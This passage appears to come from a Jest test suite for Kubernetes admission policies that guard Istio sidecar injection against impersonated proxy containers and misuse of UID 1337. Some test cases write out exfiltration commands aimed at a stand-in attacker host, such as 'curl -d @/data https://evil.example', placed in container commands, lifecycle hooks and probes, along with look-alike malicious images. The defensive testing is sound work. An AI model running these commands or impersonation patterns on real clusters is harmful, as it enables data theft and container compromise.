    expect(MESH_PROXY_001.check(o, ruleContext(objects)).map((v) => v.path)).toEqual(paths);
  });

  test('without the Namespace among the objects nothing is compared, and admission (one object) cannot compare', () => {
    const o = withRev({ 'istio.io/rev': 'canary' });
    expect(MESH_PROXY_001.check(o, ruleContext([o]))).toEqual([]);
    expect(MESH_PROXY_001.check(o, ruleContext([ns({ 'istio.io/rev': 'stable' }), o]))).toHaveLength(1);
    expect(admits(MESH_PROXY_001.admission!, o)).toBe(true);
  });

  test('the message names both revisions', () => {
    const o = withRev({ 'istio.io/rev': 'canary' });
    expect(MESH_PROXY_001.check(o, ruleContext([ns({ 'istio.io/rev': 'stable' }), o]))[0].message)
      .toBe('Deployment pod template label istio.io/rev: "canary" selects a control-plane revision other than namespace shop\'s ("stable"): its proxy would come from another injector, or from none');
  });
});

// ---------------------------------------------------------------------------------------------
// Admission: Pods arrive after injection

/** Post-injection Pods: [name, pod, MESH-PROXY-001 admits, POD-UID-001 admits]. */
const INJECTED: [string, RuleObject, boolean, boolean][] = [
  ['classic sidecar (istio-init, istio-proxy in containers)', injectedPod(), true, true],
  ['native sidecar (istio-proxy in initContainers, restartPolicy Always)', injectedPod({ native: true }), true, true],
  ['istio-cni (istio-validation as 1337, interception annotations)', injectedPod({ cni: true }), true, true],
  ['istio-cni with native sidecars', injectedPod({ cni: true, native: true }), true, true],
  ['holdApplicationUntilProxyStarts (postStart pilot-agent wait)', injectedPod({ hold: true }), true, true],
  ['the distroless proxy image', injectedPod({ image: 'gcr.io/istio-release/proxyv2:1.30.0-distroless' }), true, true],
  ['a proxy image pinned by digest', injectedPod({ image: `docker.io/istio/proxyv2:1.30.0@sha256:${'b'.repeat(64)}` }), true, true],
  ['a kubectl debug container not as 1337', alteredPod((p) => {
    p.spec.ephemeralContainers = [{ name: 'debugger-x1', image: 'busybox:1.36', targetContainerName: 'web' }];
  }), true, true],
  // Customizations the injector applied (pkg/kube/inject/testdata/inject/proxy-override-args.yaml.injected)
  ['Istio\'s own override example: istio-proxy with command envoy', alteredPod((p) => {
    Object.assign(proxyOf(p), { command: ['envoy'], args: ['-c', 'my-config.yaml'] });
    p.metadata.annotations['proxy.istio.io/overrides'] = '{"containers":[{"name":"istio-proxy","command":["envoy"],"args":["-c","my-config.yaml"],"resources":{}}]}';
  }), false, false],
  ['the overrides annotation alone', alteredPod((p) => {
    p.metadata.annotations['proxy.istio.io/overrides'] = '{"containers":[{"name":"istio-proxy","resources":{"limits":{"cpu":"4"}}}]}';
  }), false, true],
  // Impersonation: never trust a name alone
  ['istio-proxy with the attacker\'s image', alteredPod((p) => {
    proxyOf(p).image = 'evil.example/exfil:1';
  }), false, false],
  ['istio-proxy with the real image and a shell command', alteredPod((p) => {
    proxyOf(p).command = ['bash', '-c', 'curl -d @/data https://evil.example'];
  }), false, false],
  ['istio-proxy with a postStart hook running a shell', alteredPod((p) => {
    proxyOf(p).lifecycle = { postStart: { exec: { command: ['bash', '-c', 'curl https://evil.example'] } } };
  }), false, false],
  ['istio-proxy with an exec probe', alteredPod((p) => {
    proxyOf(p).livenessProbe = { exec: { command: ['bash', '-c', 'curl https://evil.example'] } };
  }), false, false],
  // Not the injector's shape, so its GID 1337 counts against it too.
  ['istio-proxy as the app\'s UID (the injector then rewrites istio-init -u)', alteredPod((p) => {
    proxyOf(p).securityContext.runAsUser = 10001;
    initOf(p).args[6] = '10001';
  }), false, false],
  ['istio-proxy as root (TPROXY needs NET_ADMIN; outside these guardrails)', alteredPod((p) => {
    proxyOf(p).securityContext.runAsUser = 0;
  }), false, false],
  ['istio-proxy in an init container that is not a sidecar', alteredPod((p) => {
    p.spec.initContainers.push(proxyOf(p));
    p.spec.containers = p.spec.containers.filter((c: any) => c.name !== 'istio-proxy');
  }), false, false],
  ['istio-proxy as an ephemeral container', alteredPod((p) => {
    p.spec.ephemeralContainers = [proxyOf(p)];
    p.spec.containers = p.spec.containers.filter((c: any) => c.name !== 'istio-proxy');
  }), false, false],
  ['istio-init exempting another UID', alteredPod((p) => {
    initOf(p).args[6] = '10001';
  }), false, true],
  ['istio-init with a second -u', alteredPod((p) => {
    initOf(p).args.push('-u', '10001');
  }), false, true],
  ['istio-init with --proxy-uid', alteredPod((p) => {
    initOf(p).args.push('--proxy-uid=10001');
  }), false, true],
  ['istio-init exempting another GID', alteredPod((p) => {
    initOf(p).args.push('-g', '10001');
  }), false, true],
  ['istio-init in containers', alteredPod((p) => {
    p.spec.containers.push(initOf(p));
    p.spec.initContainers = p.spec.initContainers.filter((c: any) => c.name !== 'istio-init');
  }), false, true],
  ['istio-init turned into a sidecar', alteredPod((p) => {
    initOf(p).restartPolicy = 'Always';
  }), false, true],
  ['istio-validation with a command', alteredPod((p) => {
    initOf(p).command = ['sh', '-c', 'sleep 1'];
  }, { cni: true }), false, false],
  // Everything else may not use 1337 or the proxy image
  ['an app container as UID 1337 next to the sidecar', alteredPod((p) => {
    p.spec.containers[0].securityContext.runAsUser = 1337;
  }), true, false],
  ['an app container with GID 1337', alteredPod((p) => {
    p.spec.containers[0].securityContext.runAsGroup = 1337;
  }), true, false],
  ['the pod\'s fsGroup 1337', alteredPod((p) => {
    p.spec.securityContext.fsGroup = 1337;
  }), true, false],
  ['a kubectl debug container as 1337', alteredPod((p) => {
    p.spec.ephemeralContainers = [{ name: 'debugger-x1', image: 'busybox:1.36', securityContext: { runAsUser: 1337 } }];
  }), true, false],
  ['an app container running the proxy image', alteredPod((p) => {
    p.spec.containers.push({ name: 'helper', image: PROXY_IMAGE, command: ['bash'] });
  }), false, true],
  ['interceptionMode NONE', alteredPod((p) => {
    p.metadata.annotations['sidecar.istio.io/interceptionMode'] = 'NONE';
  }, { cni: true }), false, true],
  ['sidecar.istio.io/proxyImage', alteredPod((p) => {
    p.metadata.annotations['sidecar.istio.io/proxyImage'] = PROXY_IMAGE;
  }), false, true],
  ['inject.istio.io/templates grpc-agent', alteredPod((p) => {
    p.metadata.annotations['inject.istio.io/templates'] = 'grpc-agent';
  }), false, true],
];

describe('admission: Pods after injection (MESH-PROXY-001 and POD-UID-001)', () => {
  test.each(INJECTED)('%s', (_n, o, proxyAdmits, uidAdmits) => {
    expect([admits(MESH_PROXY_001.admission!, o), admits(POD_UID_001.admission!, o)]).toEqual([proxyAdmits, uidAdmits]);
  });

  test.each(INJECTED.filter(([, , p, u]) => !p || !u))('what admission rejects, check() reports too: %s', (_n, o, proxyAdmits, uidAdmits) => {
    if (!proxyAdmits) expect(MESH_PROXY_001.check(o, ctx)).not.toEqual([]);
    if (!uidAdmits) expect(POD_UID_001.check(o, ctx)).not.toEqual([]);
  });

  // The documented difference: check() reads the app's manifests before injection, where the
  // injector's containers and status never belong; admission sees them on every injected Pod.
  test('the injected Pod is admitted, and check() (pre-injection) reports what the injector added', () => {
    const o = injectedPod();
    expect(admits(MESH_PROXY_001.admission!, o)).toBe(true);
    expect(admits(POD_UID_001.admission!, o)).toBe(true);
    expect(MESH_PROXY_001.check(o, ctx).map((v) => v.path)).toEqual([
      'metadata.annotations["sidecar.istio.io/status"]', 'spec.containers[1].name', 'spec.initContainers[0].name',
    ]);
    expect(POD_UID_001.check(o, ctx).map((v) => v.path)).toEqual(['spec.containers[1].securityContext.runAsUser', 'spec.containers[1].securityContext.runAsGroup']);
  });

  test('a pre-injection Pod that declares an injector-shaped istio-proxy: check() reports it, admission cannot tell it from an injected one', () => {
    const o = pod({ containers: [{ name: 'app', image: APP_IMAGE }, proxyContainer(PROXY_IMAGE, false, false)] });
    expect(MESH_PROXY_001.check(o, ctx).map((v) => v.path)).toEqual(['spec.containers[1].name']);
    expect(admits(MESH_PROXY_001.admission!, o)).toBe(true);
    expect(admits(POD_UID_001.admission!, o)).toBe(true);
    // The same template in a Deployment is never the injector's: rejected.
    const d = deployment({ containers: [{ name: 'app', image: APP_IMAGE }, proxyContainer(PROXY_IMAGE, false, false)] });
    expect(admits(MESH_PROXY_001.admission!, d)).toBe(false);
    expect(admits(POD_UID_001.admission!, d)).toBe(false);
  });

  test('the status annotation is expected on Pods, never on templates', () => {
    const status = { 'sidecar.istio.io/status': '{"containers":["istio-proxy"]}' };
    expect(admits(MESH_PROXY_001.admission!, annotated(status))).toBe(true);
    expect(MESH_PROXY_001.check(annotated(status), ctx)).toHaveLength(1);
    expect(admits(MESH_PROXY_001.admission!, deployment({}, { annotations: status }))).toBe(false);
  });

  test('the injector\'s containers are recognized only with the mesh\'s proxy images (Istio\'s hubs by default): a look-alike repository is refused', () => {
    const lookalike = alteredPod((p) => {
      proxyOf(p).image = 'evil.example/proxyv2:1.30.0';
      initOf(p).image = 'evil.example/proxyv2:1.30.0';
    });
    expect(admits(MESH_PROXY_001.admission!, lookalike)).toBe(false);
    expect(admits(POD_UID_001.admission!, lookalike)).toBe(false);
    expect(admits(MESH_PROXY_001.admission!, injectedPod())).toBe(true);
    expect(admits(POD_UID_001.admission!, injectedPod())).toBe(true);
    expect(admits(MESH_PROXY_001.admission!, injectedPod({ image: 'gcr.io/istio-release/proxyv2:1.30.0-distroless' }))).toBe(true);
    // A mesh with its own mirror names it (MeshBaseline proxyImageRepositories): the guardrails then take the context's.
    const mirror = ruleContext([], { proxyImageRepositories: ['registry.example.com/istio/proxyv2'] });
    const mirrored = injectedPod({ image: 'registry.example.com/istio/proxyv2:1.30.0' });
    expect(admits(MESH_PROXY_001.admission!, mirrored)).toBe(false);
    expect(admits(MESH_PROXY_001.admissionFor!(mirror), mirrored)).toBe(true);
    expect(admits(POD_UID_001.admissionFor!(mirror), mirrored)).toBe(true);
    expect(admits(MESH_PROXY_001.admissionFor!(mirror), injectedPod())).toBe(false);
    expect(MESH_PROXY_001.admissionFor!(ruleContext([])).expression).toBe(MESH_PROXY_001.admission!.expression);
    // The proxy image in an app's own container is detected by the mesh's images and by the /proxyv2 heuristic alike.
    for (const image of ['docker.io/istio/proxyv2:1.30.0', 'evil.example/proxyv2:1']) {
      const helper = deployment({ containers: [{ name: 'helper', image }] });
      expect(MESH_PROXY_001.check(helper, ctx).map((v) => v.path)).toEqual(['spec.template.spec.containers[0].image']);
      expect(admits(MESH_PROXY_001.admission!, helper)).toBe(false);
    }
    const own = meshProxyRules({ proxyImageRepositories: ['registry.example.com/istio/proxy'] });
    expect(own.proxy.check(deployment({ containers: [{ name: 'helper', image: 'registry.example.com/istio/proxy:1' }] }), ctx)).toHaveLength(1);
  });

  test('proxyImagePattern', () => {
    const re = new RegExp(proxyImagePattern());
    for (const ok of ['docker.io/istio/proxyv2:1.30.0', 'gcr.io/istio-release/proxyv2:1.30.0-distroless', `docker.io/istio/proxyv2@sha256:${'c'.repeat(64)}`]) expect([ok, re.test(ok)]).toEqual([ok, true]);
    for (const no of ['proxyv2:1.30.0', 'r.example:5000/a/b/proxyv2', 'evil.example/proxyv2:1', 'docker.io/istio/proxyv2-debug:1', 'docker.io/istio/pilot:1.30.0', 'docker.io/istio/proxyv2:1.30.0 ', 'docker.io/istio/proxyv2:bad/tag']) {
      expect([no, re.test(no)]).toEqual([no, false]);
    }
    expect(() => proxyImagePattern([])).toThrow(/name at least one repository/);
    const pinned = new RegExp(proxyImagePattern(['docker.io/istio/proxyv2']));
    expect(['docker.io/istio/proxyv2:1.30.0', 'docker.io/istio/proxyv2', 'dockerXio/istio/proxyv2:1', 'docker.io/istio/proxyv2x:1'].map((i) => pinned.test(i))).toEqual([true, true, false, false]);
    expect(() => proxyImagePattern(['docker.io/istio/proxyv2@sha256:abc'])).toThrow(/not an image repository/);
    expect(() => proxyImagePattern([''])).toThrow(/not an image repository/);
  });
});

// ---------------------------------------------------------------------------------------------
// The library's own output

describe('what the library synthesizes passes both rules', () => {
  function check(objects: RuleObject[]): void {
    const context = ruleContext(objects);
    for (const rule of [MESH_PROXY_001, POD_UID_001] as PolicyRule[]) {
      const kinds = new Set(rule.kinds);
      const checked = objects.filter((o) => kinds.has(kindKeyOf(o)));
      expect(checked.length).toBeGreaterThan(0);
      expect(objects.flatMap((o) => rule.check(o, context))).toEqual([]);
      for (const o of checked) expect([rule.id, o.metadata?.name, admits(rule.admission!, o)]).toEqual([rule.id, o.metadata?.name, true]);
    }
  }

  test('MeshBaseline, HardenedNamespace and SecureService (default revision)', () => {
    const chart = new Chart(Testing.app(), 'test');
    new MeshBaseline(chart, 'mesh');
    const shop = new HardenedNamespace(chart, 'shop', { name: 'shop' });
    const web = new SecureService(chart, 'web', { namespace: shop, image: APP_IMAGE, ports: [{ name: 'http', port: 8080, protocol: AppProtocol.HTTP }] });
    const api = new SecureService(chart, 'api', {
      namespace: shop, image: APP_IMAGE, ports: [{ name: 'grpc', port: 9090, protocol: AppProtocol.GRPC }], env: { MODE: 'prod' }, args: ['--serve'],
    });
    api.allowFrom(web, { ports: [9090] });
    check(synthValidated(chart));
  });

  test('a revisioned mesh', () => {
    const chart = new Chart(Testing.app(), 'test');
    const mesh = new MeshBaseline(chart, 'mesh', { revision: 'stable' });
    const shop = new HardenedNamespace(chart, 'shop', { name: 'shop', mesh });
    new SecureService(chart, 'web', { namespace: shop, image: APP_IMAGE, ports: [{ name: 'http', port: 8080, protocol: AppProtocol.HTTP }] });
    const objects = synthValidated(chart);
    expect(objects.find((o) => o.kind === 'Namespace' && o.metadata.name === 'shop').metadata.labels['istio.io/rev']).toBe('stable');
    check(objects);
  });
});

// ---------------------------------------------------------------------------------------------
// The external corpus

/*
 * Kyverno's Istio pod-security policies label Pods as they reach admission, after injection: they
 * exempt Istio's istio-init when its image matches `*istio/proxyv2*` and it is an init container.
 * MESH-PROXY-001's admission labels the same thing (is this the injector's istio-init?) where the
 * resource's label is about that: a foreign image, or istio-init among the app containers. Their
 * other bad resources are about capabilities or root (POD-CAP-001's, POD-ROOT-001's). The
 * injector's containers are recognized only with Istio's hubs (by default), so
 * `docker.io/mymalicious/proxyv2` is refused, as Kyverno labels it. check() reads manifests before
 * injection, so it reports every declared istio-init.
 */
describeWithShared('external-corpus/kyverno/istio', 'the external corpus: Kyverno\'s Istio pod policies, after injection', (dir) => {
  const pinned = meshProxyRules({ proxyImageRepositories: ['docker.io/istio/proxyv2'] });
  const load = (policy: string) => new Map(kyvernoResources(path.join(dir, policy)).map((r) => [r.file, r]));

  test.each([
    // [policy, file, MESH-PROXY-001 admits (default), admits (pinned hub), why]
    ['service-mesh-require-run-as-nonroot', 'good.yaml', true, true, 'Istio\'s istio-init as the injector writes it'],
    ['service-mesh-require-run-as-nonroot', 'bad--bad01.yaml', false, false, 'istio-init from docker.io/mymalicious/proxyv2: not Istio\'s hub'],
    ['service-mesh-require-run-as-nonroot', 'bad--bad02.yaml', false, false, 'istio-init among the app containers'],
    ['service-mesh-disallow-capabilities', 'good--good01.yaml', true, true, 'Istio\'s istio-init as the injector writes it'],
    ['service-mesh-disallow-capabilities', 'good--good02.yaml', true, true, 'Linkerd\'s init container: not Istio\'s'],
    ['service-mesh-disallow-capabilities', 'bad--bad01.yaml', true, true, 'SYS_ADMIN on Istio\'s istio-init: POD-CAP-001\'s, not this rule\'s'],
    ['service-mesh-disallow-capabilities', 'bad--bad02.yaml', false, false, 'istio-init with a foreign image'],
    ['service-mesh-disallow-capabilities', 'bad--bad03.yaml', false, false, 'istio-init among the app containers'],
    ['service-mesh-disallow-capabilities', 'bad--bad04.yaml', true, true, 'NET_ADMIN on the app container: POD-CAP-001\'s, not this rule\'s'],
  ])('%s %s', (policy, file, admitted, admittedPinned) => {
    const { object, bad } = load(policy).get(file)!;
    expect(admits(MESH_PROXY_001.admission!, object)).toBe(admitted);
    expect(admits(pinned.proxy.admission!, object)).toBe(admittedPinned);
    // No resource runs anything as 1337.
    expect(admits(POD_UID_001.admission!, object)).toBe(true);
    expect(POD_UID_001.check(object, ctx)).toEqual([]);
    // Where Kyverno's label is about the injector's identity, the pinned form agrees with it.
    if (!admittedPinned) expect(bad).toBe(true);
    // Before injection, every declared istio-init is reported.
    expect(MESH_PROXY_001.check(object, ctx).some((v) => v.message.includes('istio-init'))).toBe(file !== 'good--good02.yaml');
  });

  test('every resource of those two folders is covered above', () => {
    expect([...load('service-mesh-require-run-as-nonroot').keys(), ...load('service-mesh-disallow-capabilities').keys()].sort()).toEqual([
      'bad--bad01.yaml', 'bad--bad01.yaml', 'bad--bad02.yaml', 'bad--bad02.yaml', 'bad--bad03.yaml', 'bad--bad04.yaml', 'good--good01.yaml', 'good--good02.yaml', 'good.yaml',
    ]);
  });

  test('prevent-disabling-injection-pods is MESH-INJ-001\'s: these rules report none of it again', () => {
    for (const { file, object } of kyvernoResources(path.join(dir, 'prevent-disabling-injection-pods'))) {
      for (const rule of [MESH_PROXY_001, POD_UID_001]) {
        expect([file, rule.id, rule.check(object, ctx), admits(rule.admission!, object)]).toEqual([file, rule.id, [], true]);
      }
    }
  });
});

/* Real applications as their authors ship them (Istio's samples, Online Boutique, ...): none customizes the proxy or uses 1337. */
describeWithShared('external-corpus/apps', 'the external corpus: sample applications pass', (dir) => {
  const files = (d: string): string[] => fs.readdirSync(d, { withFileTypes: true })
    .flatMap((e) => (e.isDirectory() ? files(path.join(d, e.name)) : /\.ya?ml$/.test(e.name) ? [path.join(d, e.name)] : []));

  test('no pod of the sample applications is reported', () => {
    const objects = files(dir).flatMap((f) => parseAllDocuments(fs.readFileSync(f, 'utf8')).map((d) => d.toJS()).filter((o) => o?.kind));
    const pods = objects.filter((o) => MESH_PROXY_001.kinds!.includes(kindKeyOf(o)));
    expect(pods.length).toBeGreaterThan(10);
    const context = ruleContext(objects);
    for (const o of pods) {
      for (const rule of [MESH_PROXY_001, POD_UID_001]) {
        expect([o.kind, o.metadata?.name, rule.check(o, context)]).toEqual([o.kind, o.metadata?.name, []]);
      }
    }
  });
});
